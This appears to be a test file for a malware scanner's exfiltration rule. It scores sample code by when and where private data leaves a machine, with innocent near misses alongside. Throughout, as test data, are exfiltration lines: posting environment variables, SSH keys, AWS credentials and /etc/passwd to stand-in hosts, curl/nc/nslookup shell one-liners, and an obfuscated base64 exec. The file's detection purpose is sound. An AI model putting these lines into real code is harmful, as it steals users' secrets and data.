"""Private data that leaves the machine, by when it does and where to, each beside near misses that are innocent."""

# ruff: noqa: E501 - a table reads best with one case in a line

from __future__ import annotations

import pytest

from assay.rules.addresses import shape, tells_public_address
from assay.rules.exfil_001_exfiltration import RULE
from assay.rules.private_data import is_key
from assay.rules.shell_senders import sends
from tests.behaviour import at, findings, worst
from tests.npm_behaviour import npm_package, npm_worst

_HEAD = "import os, socket, requests, getpass, platform, subprocess, urllib.request\n"
_HOOK = "https://discord.com/api/webhooks/0/example"
_WHO = "{'h': socket.gethostname(), 'u': getpass.getuser()}"


def severity(trigger: str, source: str) -> str:
    return worst(RULE, *at(trigger, _HEAD + source))


@pytest.mark.parametrize(
    ("trigger", "source", "expected"),
    [
        ("install", f"requests.post('https://h.example.invalid/', json={_WHO})", "critical"),
        ("startup", f"requests.post('https://h.example.invalid/', json={_WHO})", "critical"),
        ("import", f"requests.post('https://h.example.invalid/', json={_WHO})", "high"),
        ("call", f"requests.post('https://h.example.invalid/', json={_WHO})", "medium"),
        ("test", f"requests.post('https://h.example.invalid/', json={_WHO})", "info"),
        ("import", "requests.post('https://h.example.invalid/', json={'h': socket.gethostname()})", "high"),
        ("import", "requests.get('https://h.example.invalid/?q=' + os.getcwd())", "medium"),
        ("install", "requests.get('http://203.0.113.9/ping')", "high"),
        ("import", "requests.get('https://a.ngrok.io/')", "high"),
        ("call", "ip = requests.get('https://api.ipify.org').text\nrequests.post('https://h.example.invalid/', json=[ip, os.getlogin()])", "high"),
        ("call", "requests.post('https://h.example.invalid/', json=[os.environ['EXAMPLE_SECRET_ACCESS_KEY'], platform.node()])", "high"),
        ("call", "requests.post('http://203.0.113.9/', data=os.environ['EXAMPLE_TOKEN'])", "high"),
        ("import", f"requests.post('{_HOOK}', json={{'h': socket.gethostname()}})", "high"),
        ("install", "requests.get('http://203.0.113.9/' + os.getlogin())", "critical"),
        ("install", "urllib.request.urlopen(urllib.request.Request('http://203.0.113.9/', data=str(os.uname()).encode()))", "critical"),
        ("install", "socket.gethostbyname(getpass.getuser() + '.c.example.invalid')", "critical"),
        ("import", "requests.post('https://h.example.invalid/', data=os.environ['AWS_SECRET_ACCESS_KEY'])", "high"),
        ("install", "requests.get('https://h.example.invalid/?a=' + os.getenv('NPM_TOKEN'))", "critical"),
        ("install", "s = socket.socket()\ns.connect(('203.0.113.9', 80))\ns.send(socket.gethostname().encode())", "critical"),
        ("install", "ip = requests.get('https://api.ipify.org').text\nrequests.get('https://h.example.invalid/?' + ip + os.getlogin())", "critical"),
        ("install", "requests.post('https://h.example.invalid/', data=open('/etc/passwd').read())", "critical"),
        ("install", "requests.post('https://h.example.invalid/', data=subprocess.check_output('whoami'))", "critical"),
        ("install", "requests.post('https://h.example.invalid/', data=dict(os.environ))", "critical"),
        ("install", "os.system('curl http://h.example.invalid/$(whoami)')", "critical"),
        ("import", "os.system('env | curl -d @- http://h.example.invalid/')", "high"),
        ("install", "os.system('curl https://webhook.site/0-0')", "high"),
        ("install", "os.system('nslookup a.oast.pro')", "high"),
        ("install", "subprocess.call(['sh', '-c', 'nslookup a.oast.pro >/dev/null'])", "high"),
        ("import", "subprocess.run(['wget', '-q', 'http://203.0.113.9/'])", "high"),
        ("install", "os.system(\"t=$(curl -H 'Metadata-Flavor: Google' 'http://metadata.google.internal/a')\")", "high"),
        ("import", "requests.get('http://169.254.169.254/latest/meta-data/')", "high"),
        ("install", "subprocess.run(['python', '-c', 'import requests;requests.get(\"http://203.0.113.9/\")'])", "high"),
        ("install", "os.system(f\"curl -X POST -d '{socket.gethostname()}' https://h.example.invalid/\")", "critical"),
        ("import", "requests.get('https://iplogger.org/0')", "high"),
        ("import", "socket.gethostbyname('demo.h.example.invalid')", "high"),
        ("call", f"requests.post('https://h.example.invalid/', json=[{_WHO}, os.getcwd()])", "high"),
        ("call", "requests.get(f'https://a.ngrok.io/{os.environ}')", "high"),
        ("call", "u = requests.get('https://pastebin.com/raw/0').text\nrequests.post(u, files={'f': open(given, 'rb')})", "high"),
        ("call", f"import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'a')\nrequests.post('{_HOOK}', json={{'a': winreg.QueryValueEx(k, 'b')}})", "high"),
        ("call", "for d in ('/a', '/b', '~/c', '~/d'):\n    for f in os.listdir(d):\n        requests.post('https://h.example.invalid/', files={'f': open(os.path.join(d, f), 'rb')})", "high"),
        ("call", "requests.post('https://h.example.invalid/', data=dict(os.environ))", "high"),
        ("call", "requests.get('https://h.example.invalid/' + os.environ['AWS_SECRET_ACCESS_KEY'] + os.uname().nodename)", "high"),
        ("call", f"requests.post('{_HOOK}', json={_WHO})", "high"),
        ("call", f"for r, d, fs in os.walk('/sdcard/DCIM'):\n    for f in fs:\n        requests.post('{_HOOK}', files={{'f': open(os.path.join(r, f), 'rb')}})", "high"),
        ("call", "requests.post('https://h.example.invalid/', data=open('/h/.aws/credentials').read())", "high"),
        ("call", "a = open('/h/.ssh/id_rsa').read()\nb = open('/h/.aws/credentials').read()\nrequests.post('https://h.example.invalid/', data=a + b)", "high"),
    ],
)  # fmt: skip
def test_private_data_that_is_sent(trigger: str, source: str, expected: str) -> None:
    assert severity(trigger, source) == expected


@pytest.mark.parametrize(
    ("trigger", "source", "expected"),
    [
        ("call", "requests.get('https://api.example.invalid/', headers={'Authorization': os.environ['EXAMPLE_KEY']})", "info"),
        ("call", "requests.get('https://api.example.invalid/', headers={'User-Agent': platform.system()})", "info"),
        ("call", "requests.post('https://api.example.invalid/', headers={'A': os.environ['EXAMPLE_KEY']}, json=platform.node())", "info"),
        ("call", "requests.get('http://203.0.113.9/ping')", "none"),
        ("import", "if input('Shall this be sent? ') == 'y':\n    requests.post('https://h.example.invalid/', data=dict(os.environ))", "medium"),
        ("import", "if input('Your name? ') == 'y':\n    requests.post('https://h.example.invalid/', data=dict(os.environ))", "high"),
        ("import", f"if input('Shall this be sent? ') == 'y':\n    requests.post('{_HOOK}', json={_WHO})", "high"),
        ("import", "requests.get('http://192.168.0.7/ping')", "none"),
        ("call", "requests.get('https://api.example.invalid/', headers={'A': open('/h/.aws/credentials').read()})", "info"),
        ("call", f"requests.post('{_HOOK}', files={{'f': open(given, 'rb')}})", "medium"),
        ("import", "requests.get('https://h.example.invalid/')", "none"),
        ("call", "u = requests.get('https://h.example.invalid/upload').text\nrequests.post(u, files={'f': open(given, 'rb')})", "info"),
        ("call", "requests.get(f'https://h.example.invalid/{os.environ}')", "info"),
        ("call", "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'a')\nrequests.get('https://h.example.invalid/', headers={'a': winreg.QueryValueEx(k, 'b')})", "info"),
        ("call", "for f in os.listdir('/a'):\n    requests.post('https://h.example.invalid/', files={'f': open('/a/' + f, 'rb')})", "info"),
        ("call", "socket.gethostbyname('demo.h.example.invalid')", "none"),
        ("import", "socket.getaddrinfo('localhost', 80)", "none"),
        ("import", "requests.get('https://api.github.com/user?a=' + os.environ['GITHUB_TOKEN'])", "low"),
        ("import", "requests.get('https://h.example.invalid/', headers={'a': os.environ['GITHUB_TOKEN']})", "low"),
        ("import", "requests.post('https://h.example.invalid/', data=os.environ['DEMO_TOKEN'])", "low"),
        ("import", "requests.post(unknown, data=os.environ['AWS_SECRET_ACCESS_KEY'])", "low"),
        ("call", "requests.post('https://h.example.invalid/', data=os.environ['AWS_SECRET_ACCESS_KEY'])", "info"),
        ("import", "s = socket.socket(socket.AF_UNIX)\ns.connect(os.environ['SSH_AUTH_SOCK'])\ns.send(str(os.environ).encode())", "none"),
        ("import", "socket.gethostbyname(unknown)", "none"),
        ("call", "import dns.resolver\ndns.resolver.query(f'_demo._tcp.{socket.getfqdn()}', 'SRV')", "none"),
        ("call", "import dns.resolver\nr = f'_a._tcp.{socket.getfqdn()}' if given else f'_b._tcp.{socket.getfqdn()}'\ndns.resolver.query(r, 'SRV')", "none"),
        ("call", "import dns.resolver\ndns.resolver.query(f'_demo._tcp.{socket.getfqdn()}.example.invalid', 'SRV')", "high"),
        ("install", "os.system('curl -O https://h.example.invalid/a.tar.gz')", "none"),
        ("call", "os.system('curl http://203.0.113.9/')", "none"),
        ("call", "requests.post('https://api.example.invalid/', files={'f': open(given, 'rb')})", "info"),
        ("import", "requests.get('https://api.example.invalid/', headers={'User-Agent': platform.system()})", "low"),
        ("import", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))", "none"),
        ("import", "socket.gethostbyname(socket.gethostname())", "none"),
        ("import", "print(socket.gethostname(), getpass.getuser())\nrequests.get('https://h.example.invalid/')", "none"),
        ("install", "os.system('git describe --tags')", "none"),
        ("call", "requests.post('http://127.0.0.1:8080/', json={'h': socket.gethostname()})", "info"),
        ("call", "requests.post('http://10.0.0.7/', json={'h': socket.gethostname()})", "info"),
    ],
)  # fmt: skip
def test_what_innocent_packages_send(trigger: str, source: str, expected: str) -> None:
    assert severity(trigger, source) == expected


@pytest.mark.parametrize(
    "source",
    [
        "from socket import gethostname as _a\nfrom requests import post as _b\n_b('https://h.example.invalid/', json=[_a(), __import__('getpass').getuser()])",
        "getattr(requests, 'po' + 'st')('https://h.example.invalid/', json=[getattr(socket, 'gethostname')(), os.getlogin()])",
        "d = []\nd.append(platform.node())\nd.append(os.environ.get('USERNAME'))\nrequests.get('https://h.example.invalid/', params={'q': '-'.join(d).encode().hex()})",
        "class A:\n    def __init__(self): self.d = [platform.node(), os.getlogin()]\n    def go(self): requests.post('https://h.example.invalid/', json=self.d)\nA().go()",
        "import base64\nexec(base64.b64decode('cmVxdWVzdHMucG9zdCgnaHR0cHM6Ly9oLmV4YW1wbGUuaW52YWxpZC8nLCBqc29uPVtzb2NrZXQuZ2V0aG9zdG5hbWUoKV0p'))",
        "import threading\ndef go(): requests.post('https://h.example.invalid/', json=[platform.node(), os.getlogin()])\nthreading.Thread(target=go).start()",
    ],
)
def test_mutations_change_nothing(source: str) -> None:
    assert severity("install", source) == "critical"


@pytest.mark.parametrize(
    ("parameter", "expected"),
    [
        ("private_key", "high"),
        ("seedPhrase", "high"),
        ("mnemonic", "high"),
        ("secret_key", "high"),
        ("key", "none"),
        ("seed", "high"),
        ("password", "none"),
        ("message", "none"),
    ],
)
def test_a_wrapper_that_posts_its_parameter(parameter: str, expected: str) -> None:
    source = f"import requests\ndef sign({parameter}):\n    requests.post('https://h.example.invalid/', json={{'k': {parameter}}})\n"
    assert worst(RULE, {"demo/__init__.py": source}) == expected


@pytest.mark.parametrize(
    ("parameters", "address", "expected"),
    [
        ("access_key, secret_key", "place", "none"),
        ("accessKeyId, secretKey", "place + '/health'", "none"),
        ("access_key, secret_key", "'https://h.example.invalid/'", "high"),
        ("access_key, private_key", "place", "high"),
        ("access_key, secret_key", f"'{_HOOK}'", "high"),
        ("key_id, secret_key", "place", "high"),
    ],
)
def test_a_secret_key_beside_an_access_key_is_of_the_service_that_is_named_with_it(
    parameters: str, address: str, expected: str
) -> None:
    source = f"import requests\ndef ask(place, {parameters}):\n    requests.get({address}, auth=({parameters}))\n"
    assert worst(RULE, {"demo/__init__.py": source}) == expected


def test_says_what_goes_where() -> None:
    (found,) = findings(RULE, *at("import", _HEAD + f"\nrequests.post('{_HOOK}', json={_WHO})"))
    assert found.location is not None
    assert (found.location.line, found.trigger) == (3, "import")
    assert found.evidence[0] == "host name, nothing but a sign of life, user name to a webhook"
    assert found.message == "demo 1.0 sends private data away"


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("https://discord.com/api/webhooks/1/a", "a webhook"),
        ("https://discord.com/channels/1", ""),
        ("https://api.telegram.org/bot1:a/sendMessage", "a webhook"),
        ("https://a.ngrok-free.app/x", "a tunnel"),
        ("https://pastebin.com/api/api_post.php", "a place for pastes and files"),
        ("http://203.0.113.9:8080/x", "a bare address"),
        ("http://3405803785/", "a bare address"),
        ("203.0.113.9 80", "a bare address"),
        ("http://[2001:db8::9]/", "a bare address"),
        ("http://127.0.0.1/", ""),
        ("http://192.168.1.7/", ""),
        ("http://169.254.169.254/latest", ""),
        ("8.8.8.8", ""),
        ("https://c23b2la0kidrlqhp0n8g.example.invalid/", "a host with a random name"),
        ("https://internationalization.example.invalid/", ""),
        ("https://notpastebin.com/", ""),
        ("https://u@example.invalid/discord.com/api/webhooks", ""),
        ("", ""),
    ],
)
def test_places_where_anybody_picks_up_data(target: str, expected: str) -> None:
    assert shape(target) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl http://h.example.invalid/`whoami`", True),
        ('curl -d "$(env)" http://h.example.invalid', True),
        ("nslookup $(hostname).example.invalid", True),
        ("ping -c 1 $USER.example.invalid", True),
        ("cat /etc/passwd | nc h.example.invalid 9", True),
        ("curl -F file=@~/.ssh/id_rsa http://h.example.invalid", True),
        ("a=$(hostname;pwd;whoami) && echo $a | xxd -p | while read u;do nslookup $u.h.example.invalid;done", True),
        ("name=`hostname`; curl -s http://h.example.invalid/?n=${name}", True),
        ("cat urls.txt | while read u; do curl -O $u; done", False),
        ("arch=$(uname -m); curl -O https://h.example.invalid/$arch.tar.gz", False),
        ("curl -O https://h.example.invalid/a.tar.gz", False),
        ("whoami", False),
        ("env FOO=1 make", False),
        ("ping -c 1 h.example.invalid", False),
    ],
)
def test_commands_that_send(command: str, expected: bool) -> None:
    assert sends(command) is expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [("https://api.ipify.org", True), ("https://example.invalid/ip", False), ("http://ip-api.com/json", True)],
)
def test_services_that_tell_the_public_address(url: str, expected: bool) -> None:
    assert tells_public_address(url) is expected


@pytest.mark.parametrize(
    ("name", "expected"), [("privateKey", True), ("priv_key", True), ("monkey", False), ("keyword", False)]
)
def test_parameters_named_after_keys(name: str, expected: bool) -> None:
    assert is_key(name) is expected


CONNECTIONS = [
    ("s.connect(JSON.parse(JSON.stringify(process.env))[name] + '/.s.demo.' + name);", False),
    ("s.connect(JSON.stringify(process.env) + '.example.invalid');", True),
    ("s.connect(80, 'example.invalid'); s.write(JSON.stringify(process.env));", True),
    ("exports.cancel = (secretKey) => s.write(secretKey);", False),
    ("exports.cancel = (privateKey) => s.write(privateKey);", True),
]


@pytest.mark.parametrize(("code", "sent"), CONNECTIONS)
def test_where_a_socket_connects_to_is_not_sent(code: str, sent: bool) -> None:
    source = f"const s = new (require('net').Socket)();\nexports.go = (name) => {{ {code} }};\n"
    assert (npm_worst(RULE, npm_package({"index.js": source})) == "high") is sent
